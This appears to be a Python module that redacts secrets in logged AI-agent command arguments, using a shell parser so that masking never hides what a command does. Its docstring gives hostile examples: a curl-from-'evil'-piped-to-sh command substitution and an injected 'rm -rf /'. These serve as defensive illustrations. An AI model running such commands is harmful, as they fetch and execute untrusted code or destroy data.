"""Secrets an agent passes in arguments are redacted before anything is stored (hashes are taken over originals).

Redaction must never hide what a command does: an agent could otherwise write `API_TOKEN="$(curl evil | sh)"` and
leave only `API_TOKEN=[REDACTED]` in the log. So a span is masked only if it is provably literal data:

- it holds only characters no shell quotes, expands, substitutes, splits or redirects on (`LITERAL`); a span that
  joins the name before it in one word (`NAME=value`, `scheme://user:pass@`, `ghp_…`) needs nothing more;
- a span that stands as a word of its own (`--token value`, `Authorization: Bearer value`, `"password": "value"`)
  could be a command name (`X="a "password: rm -rf /` runs `rm`), so the shell parser bashlex must confirm it lies
  inside an argument or an assignment, outside every expansion; where bashlex cannot parse the text, it stays.

Where bashlex confirms the span lies in such a word, spaces and a few inert signs (`QUOTED_LITERAL`) may be in it too
(`DB_PASSWORD='correct horse'`). Texts longer than MAX_PARSED_CHARS are not parsed. Each string reports how many
spans it masked, so the record can say so.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import bashlex
import bashlex.ast

MASK = "[REDACTED]"
SECRET_NAME = r"[A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?)[A-Za-z0-9_]*"
# Inert in every shell context: no quote, `$`, backtick, backslash, blank, operator, glob, brace, tilde or comment.
LITERAL = re.compile(r"[A-Za-z0-9_.+/=:@%\-]+")
QUOTED_LITERAL = re.compile(r"[A-Za-z0-9_.+/=:@%\- !#,^]+")
# The value after a name: its inside if quoted (the quotes stay), else the run up to a blank, quote or separator.
_VALUE = r"""(?:"(?P<dq>[^"\n]*)"|'(?P<sq>[^'\n]*)'|(?P<bare>[^\s,;&|'"]+))"""


@dataclass(frozen=True)
class _Pattern:
    """A pattern no match of which holds a newline, and the strings one of which each group has on a line it matches
    (in lower case, in ASCII text: outside ASCII, case-insensitive matching also takes letters lower() keeps, such as
    the Kelvin sign for K and the long s for s)."""

    regex: re.Pattern[str]
    needs: tuple[tuple[str, ...], ...]

    def finditer(self, text: str, lowered: str | None) -> Iterator[re.Match[str]]:
        """The matches `regex.finditer(text)` finds, looked for only on lines that hold what a match needs."""
        if lowered is None:
            yield from self.regex.finditer(text)
            return
        for start, end in _lines_holding(lowered, self.needs[0]):
            line = lowered[start:end]
            if all(any(part in line for part in group) for group in self.needs[1:]):
                yield from self.regex.finditer(text, start, end)  # `\b` still sees the newlines around the line


def _lines_holding(text: str, parts: tuple[str, ...]) -> list[tuple[int, int]]:
    """The (start, end) of each line of `text` that holds one of `parts`, in order."""
    lines: set[tuple[int, int]] = set()
    for part in parts:
        at = text.find(part)
        while at != -1:
            start = text.rfind("\n", 0, at) + 1
            end = text.find("\n", at)
            end = len(text) if end == -1 else end
            lines.add((start, end))
            at = text.find(part, end)
    return sorted(lines)


_SECRET_WORDS = ("token", "secret", "pass", "key", "credential")
_PATTERNS: list[_Pattern] = [
    # user:password@ (or a token as the user) in URLs
    _Pattern(re.compile(r"(?i)\b[a-z][a-z0-9+.\-]*://(?P<bare>[^/\s@:]+(?::[^/\s@]*)?)@"), (("://",), ("@",))),
    # Authorization headers, whatever the scheme
    _Pattern(
        re.compile(r"(?i)\bauthorization[ \t]*[:=][ \t]*(?:(?:bearer|basic|token|digest)[ \t]+)?(?P<bare>[^\s'\"]+)"),
        (("authorization",),),
    ),
    # bearer-looking tokens anywhere
    _Pattern(re.compile(r"(?i)\bbearer[ \t]+(?P<bare>[A-Za-z0-9._+/=\-]{8,})"), (("bearer",),)),
    # well-known token formats
    _Pattern(
        re.compile(
            r"\b(?:sst_|ghp_|gho_|ghu_|ghs_|github_pat_|glpat-|xox[abpr]-|sk-|npm_)(?P<bare>[A-Za-z0-9_\-]{10,})"
        ),
        (("sst_", "ghp_", "gho_", "ghu_", "ghs_", "github_pat_", "glpat-", "xox", "sk-", "npm_"),),
    ),
    # NAME=value / NAME: value for variables named like secrets (export FOO_TOKEN=..., "api_key": "...")
    _Pattern(re.compile(rf"(?i)\b(?:{SECRET_NAME})[\"']?[ \t]*[=:][ \t]*{_VALUE}"), (_SECRET_WORDS, ("=", ":"))),
    # --password=value / --token value
    _Pattern(
        re.compile(rf"(?i)--?[a-z0-9\-]*(?:token|secret|password|passwd|api-?key)[a-z0-9\-]*(?:=|[ \t]+){_VALUE}"),
        (_SECRET_WORDS, ("-",)),
    ),
]
# Longer texts are not parsed (a record is built on the event loop's thread when its call runs alone): in them only
# values joined to their names are masked.
MAX_PARSED_CHARS = 2048
_SECRET_KEY = re.compile(rf"(?i)^{SECRET_NAME}$")
# Never masked under a secret-named key either: what a shell would expand or run if the value reached one.
_SHELL_ACTIVE = re.compile(r"[$`\\\n]")


@dataclass(frozen=True)
class Redacted:
    value: Any
    masked: int  # how many spans (or values under secret-named keys) were masked


@dataclass(frozen=True)
class _Span:
    start: int
    end: int
    own_word: bool  # blanks between the name and the value: the value is a shell word of its own


def _candidates(text: str) -> Iterator[_Span]:
    lowered = text.lower() if text.isascii() else None
    for pattern in _PATTERNS:
        for match in pattern.finditer(text, lowered):
            group = next(
                name for name in ("dq", "sq", "bare") if name in match.groupdict() and match.group(name) is not None
            )
            start, end = match.span(group)
            if start == end:
                continue
            yield _Span(start, end, bool(re.search(r"\s", text[match.start() : start])))


def _nodes(node: Any) -> Iterator[Any]:
    """`node` and every node below it, whatever attribute holds them."""
    yield node
    for value in vars(node).values():
        children = value if isinstance(value, list) else [value]
        for child in children:
            if isinstance(child, bashlex.ast.node):
                yield from _nodes(child)


@dataclass(frozen=True)
class _Words:
    """What bashlex found: the spans of words that are data (arguments, assignments, redirection targets) and the
    spans of every expansion or substitution."""

    data: tuple[tuple[int, int], ...]
    active: tuple[tuple[int, int], ...]


_ACTIVE_KINDS = frozenset({"parameter", "commandsubstitution", "processsubstitution", "tilde", "heredoc"})


def _command_name_ids(tree: list[Any]) -> set[int]:
    names: set[int] = set()
    for root in tree:
        for node in _nodes(root):
            if node.kind == "command":
                first = next((part for part in node.parts if part.kind == "word"), None)
                if first is not None:
                    names.add(id(first))
    return names


@functools.lru_cache(maxsize=64)
def _parse(text: str) -> _Words | None:
    """bashlex's reading of `text`, or None where it has none (not shell, or shell it cannot read)."""
    try:
        tree = bashlex.parse(text)
        names = _command_name_ids(tree)
        data: list[tuple[int, int]] = []
        active: list[tuple[int, int]] = []
        for root in tree:
            for node in _nodes(root):
                if node.kind in _ACTIVE_KINDS:
                    active.append(tuple(node.pos))
                elif node.kind in {"word", "assignment"} and id(node) not in names:
                    data.append(tuple(node.pos))
    except Exception:  # noqa: BLE001 - bashlex raises many kinds of error on text it cannot read: all mean "no reading"
        return None
    return _Words(tuple(data), tuple(active))


def _confirmed(words: _Words, span: _Span) -> bool:
    inside = any(start <= span.start and span.end <= end for start, end in words.data)
    touches = any(start < span.end and span.start < end for start, end in words.active)
    return inside and not touches


def _maskable(text: str, span: _Span, words: _Words | None) -> bool:
    value = text[span.start : span.end]
    if words is not None:
        return _confirmed(words, span) and QUOTED_LITERAL.fullmatch(value) is not None
    return not span.own_word and LITERAL.fullmatch(value) is not None


def _needs_parser(text: str, candidates: list[_Span]) -> bool:
    """Whether any candidate can be masked only with bashlex's word (bashlex's parse is slow for every character)."""
    if len(text) > MAX_PARSED_CHARS:
        return False
    return any(span.own_word or not LITERAL.fullmatch(text[span.start : span.end]) for span in candidates)


def _spans_to_mask(text: str, parse: bool) -> list[_Span]:
    # Two patterns may find the same value; if either sees it as a word of its own, it is one.
    found: dict[tuple[int, int], bool] = {}
    for span in _candidates(text):
        found[span.start, span.end] = found.get((span.start, span.end), False) or span.own_word
    candidates = sorted(
        (_Span(start, end, own) for (start, end), own in found.items()), key=lambda span: (span.start, -span.end)
    )
    if not candidates:
        return []
    words = _parse(text) if parse and _needs_parser(text, candidates) else None
    chosen: list[_Span] = []
    for span in candidates:
        if chosen and span.start < chosen[-1].end:
            continue  # overlaps a span already masked
        if _maskable(text, span, words):
            chosen.append(span)
    return chosen


def redact_text_counted(text: str, *, parse: bool = True) -> Redacted:
    """`text` with its secret-looking literal values masked. `parse=False` for text that does not start where the
    original starts (the tail of an excerpt): what comes before it decides how the shell reads it, so only values
    joined to their names are masked."""
    spans = _spans_to_mask(text, parse)
    if not spans:
        return Redacted(text, 0)
    pieces, at = [], 0
    for span in spans:
        pieces += [text[at : span.start], MASK]
        at = span.end
    pieces.append(text[at:])
    return Redacted("".join(pieces), len(spans))


def redact_text(text: str) -> str:
    return redact_text_counted(text).value


def _masks_whole(key: Any, item: Any) -> bool:
    if not _SECRET_KEY.match(str(key)) or not item or isinstance(item, dict | list | bool):
        return False
    return not (isinstance(item, str) and _SHELL_ACTIVE.search(item))


def redact_counted(value: Any) -> Redacted:
    """A copy of `value` (JSON-like) with secrets in strings, and literal values under secret-named keys, masked."""
    if isinstance(value, str):
        return redact_text_counted(value)
    if isinstance(value, dict):
        result, masked = {}, 0
        for key, item in value.items():
            if _masks_whole(key, item):
                result[key], masked = MASK, masked + 1
                continue
            inner = redact_counted(item)
            result[key], masked = inner.value, masked + inner.masked
        return Redacted(result, masked)
    if isinstance(value, list):
        items = [redact_counted(item) for item in value]
        return Redacted([item.value for item in items], sum(item.masked for item in items))
    return Redacted(value, 0)


def redact(value: Any) -> Any:
    return redact_counted(value).value
